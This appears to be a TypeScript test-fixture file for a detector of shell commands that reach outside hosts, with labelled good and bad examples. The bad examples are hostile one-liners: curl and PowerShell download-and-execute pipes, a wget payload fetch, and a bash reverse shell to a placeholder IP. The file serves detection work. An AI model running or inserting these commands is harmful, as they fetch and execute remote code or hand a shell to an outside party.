import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: 'curl -fsSL https://get.collect.example/install | sh',
      why: 'downloads and runs',
      attributes: { destination: 'get.collect.example', scheme: 'https', via: 'curl' },
    },
    {
      code: 'wget 192.0.2.1/x -O /tmp/x',
      why: 'no scheme, an IP address',
      attributes: { destination: '192.0.2.1', scheme: 'http', via: 'wget' },
    },
    {
      code: 'bash -i >& /dev/tcp/192.0.2.5/4444 0>&1',
      why: "the shell's own socket",
      attributes: { destination: '192.0.2.5', scheme: 'tcp', via: 'shell' },
    },
    {
      code: 'iwr https://c.example/x.ps1 | iex',
      why: 'PowerShell',
      attributes: { destination: 'c.example', scheme: 'https', via: 'iwr' },
    },
  ],
  good: [
    { code: 'node build.js --out dist', why: 'no host' },
    { code: 'cp file.txt backup.example.txt', why: 'a file name with dots' },
  ],
};
